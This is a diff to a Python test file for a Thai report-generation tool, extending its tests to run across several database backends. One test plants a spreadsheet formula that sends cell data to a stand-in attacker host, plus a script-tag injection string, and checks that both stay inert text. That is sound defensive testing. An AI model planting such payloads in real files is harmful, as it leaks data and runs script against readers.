@@ -24,10 +24,12 @@ AS_OF = dt.date(2024, 5, 15)
 
 
 @pytest.fixture(scope="module")
-def demo(tmp_path_factory: pytest.TempPathFactory, demo_ws: Path):
+def demo(tmp_path_factory: pytest.TempPathFactory, demo_ws: Path, module_dataset_url: str):
+    """The demo, ingested; on each dataset backend for the tests marked ``backends``."""
     path = tmp_path_factory.mktemp("rep") / "ws"
     shutil.copytree(demo_ws, path)
-    ws = load_settings(path)
+    ws = fx.use_database(path, module_dataset_url) if module_dataset_url else load_settings(
+        path)
     ingest(ws)
     return ws
 
@@ -37,6 +39,7 @@ def manifest(demo) -> dict:
     return json.loads((demo.workspace / "demo-manifest.json").read_text(encoding="utf-8"))
 
 
+@pytest.mark.backends
 def test_all_outputs_html_xlsx(demo) -> None:
     result = CliRunner().invoke(main, ["report", "-w", str(demo.workspace), "--as-of",
                                        "15/05/2567", "--format", "xlsx,html"])
@@ -58,6 +61,7 @@ def test_all_outputs_html_xlsx(demo) -> None:
     assert index.count('<figure class="bar-chart">') == 4
 
 
+@pytest.mark.backends
 def test_planted_problems_reach_the_overdue_list(demo, manifest) -> None:
     data = load(demo, AS_OF)
     overdue = overdue_rows(data)
@@ -92,6 +96,7 @@ def test_planted_problems_reach_the_overdue_list(demo, manifest) -> None:
     assert len(listed) == len(late[late["project_code"].isin(live)])
 
 
+@pytest.mark.backends
 def test_planted_missing_reports_lower_completeness(demo, manifest) -> None:
     data = load(demo, AS_OF)
     table = completeness_rows(data)
@@ -105,6 +110,7 @@ def test_planted_missing_reports_lower_completeness(demo, manifest) -> None:
     assert table["rate"].dropna().le(100).all()
 
 
+@pytest.mark.backends
 def test_same_dataset_same_as_of_same_content(demo, tmp_path: Path) -> None:
     from python_calamine import CalamineWorkbook
 
@@ -125,10 +131,11 @@ def test_same_dataset_same_as_of_same_content(demo, tmp_path: Path) -> None:
         assert first[name] == second[name], name
 
 
-def test_injection_stays_text(tmp_path: Path) -> None:
+@pytest.mark.backends
+def test_injection_stays_text(tmp_path: Path, dataset_url: str) -> None:
     from openpyxl import load_workbook
 
-    ws = fx.make_workspace(tmp_path / "ws")
+    ws = fx.make_workspace(tmp_path / "ws", database_url=dataset_url)
     evil = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
     fx.submission(ws.path("inbox") / "evil.xlsx", tables={
         "problems": [{"text": evil}, {"text": "<script>alert('x')</script>"}],
@@ -150,8 +157,9 @@ def test_injection_stays_text(tmp_path: Path) -> None:
     assert all(c.data_type == "s" for c in cells)
 
 
-def test_per_project_pages_rerender_only_when_changed(tmp_path: Path) -> None:
-    ws = fx.make_workspace(tmp_path / "ws")
+@pytest.mark.backends
+def test_per_project_pages_rerender_only_when_changed(tmp_path: Path, dataset_url: str) -> None:
+    ws = fx.make_workspace(tmp_path / "ws", database_url=dataset_url)
     fx.submission(ws.path("inbox") / "p01.xlsx", received=dt.datetime(2024, 1, 12, 9))
     ingest(ws)
     first = generate(ws, as_of=dt.date(2024, 1, 20), formats=("html",), only=("projects",))
@@ -169,6 +177,7 @@ def test_per_project_pages_rerender_only_when_changed(tmp_path: Path) -> None:
     assert page in third.written and "ปัญหาใหม่ล่าสุด" in page.read_text("utf-8")
 
 
+@pytest.mark.backends
 def test_unknown_report_is_a_usage_error(demo) -> None:
     result = CliRunner().invoke(main, ["report", "-w", str(demo.workspace), "--only", "budget"])
     assert result.exit_code == 2 and "unknown report" in result.output
@@ -203,15 +212,13 @@ def test_report_pdfs_embed_thai_font_number_pages_and_render(tmp_path: Path) -> 
         assert image.stat().st_size > 3000  # a page with content, not a blank sheet
 
 
+@pytest.mark.backends
 def test_demo_ingest_reports_planted_problems_where_planted(demo, manifest) -> None:
     """Issue 3: each planted error is a finding at the planted cell; planted oddities that
     must be read (Thai digits, B.E. years, aliases) are stored without one."""
-    import sqlite3
-
-    with sqlite3.connect(demo.workspace / "tps.sqlite") as db:
-        found = db.execute("select s.file_name, f.code, f.sheet, f.cell from findings f "
-                           "join submissions s on s.id = f.submission_id").fetchall()
-        statuses = dict(db.execute("select file_name, status from submissions"))
+    found = fx.query(demo, "select s.file_name, f.code, f.sheet, f.cell from findings f "
+                           "join submissions s on s.id = f.submission_id")
+    statuses = dict(fx.query(demo, "select file_name, status from submissions"))
     for item in manifest["planted"]:
         if not item.get("file") or item["file"] == "plan.xlsx":
             continue
